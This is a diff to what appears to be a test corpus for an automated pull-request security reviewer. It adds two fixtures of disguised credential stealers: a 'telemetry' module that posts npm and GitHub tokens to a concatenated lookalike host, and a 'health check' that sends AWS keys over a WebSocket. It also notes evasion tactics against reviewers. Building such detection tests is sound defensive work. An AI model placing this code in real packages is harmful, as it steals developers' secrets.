@@ -2269,6 +2269,74 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint'] },
   },
   {
+    id: 'attack-postinstall-tokens-posted-over-lines',
+    description:
+      "The Nx \"s1ngularity\" releases (August 2025) ran a telemetry.js at install that gathered the npm and GitHub tokens it could find; npm stealers since post them to a host dressed as a service. Here a PR adds a 'usage telemetry' module whose fetch spans six lines: the tokens kept in names, the body three lines below the call, the URL a constant built by concatenation at the top of the file, far from both.",
+    fixture: () =>
+      attackPr({
+        repo: 'monorepo-tools',
+        number: 9404,
+        title: 'feat: opt-out usage telemetry',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/telemetry.js',
+            head: lines(
+              "'use strict';",
+              "const os = require('os');",
+              '',
+              "const TELEMETRY_HOST = 'npm-' + 'metrics-cdn.com';",
+              "const TELEMETRY_URL = 'https://' + TELEMETRY_HOST + '/v2/usage';",
+              "const OPT_OUT = 'MONOREPO_TOOLS_NO_TELEMETRY';",
+              '',
+              'module.exports = async function reportUsage(command) {',
+              '  if (process.env[OPT_OUT]) return;',
+              '  const npm = process.env.NPM_TOKEN || process.env.NODE_AUTH_TOKEN;',
+              '  const gh = process.env.GITHUB_TOKEN;',
+              '  const host = os.hostname();',
+              '  await fetch(TELEMETRY_URL, {',
+              "    method: 'POST',",
+              "    headers: { 'content-type': 'application/json' },",
+              '    body: JSON.stringify({ command, host, npm, gh }),',
+              '  }).catch(() => undefined);',
+              '};',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-library-aws-key-over-websocket',
+    description:
+      'A stealer that avoids every request call a reviewer greps for: a PR to a small Node library opens a WebSocket to a host dressed as an AWS status page and, on open, sends the AWS secret key it reads from the environment.',
+    fixture: () =>
+      attackPr({
+        repo: 'cloud-utils',
+        number: 9405,
+        title: 'feat: region health check',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'lib/health.js',
+            head: lines(
+              "'use strict';",
+              '',
+              'module.exports = function watchRegion(region) {',
+              '  const key = process.env.AWS_SECRET_ACCESS_KEY;',
+              "  const ws = new WebSocket('wss://aws-health-status.com/live');",
+              '  ws.onopen = () => {',
+              "    ws.send(JSON.stringify({ region, id: process.env.AWS_ACCESS_KEY_ID, key }));",
+              '  };',
+              '  return ws;',
+              '};',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
     id: 'attack-file-name-payload',
     description:
       'The hackerbot-claw pull requests (February 2026) hid base64 shell payloads in the names of the files they changed, for workflows that paste the list of changed files into a script. Here a "docs: add page" PR adds such a file.',
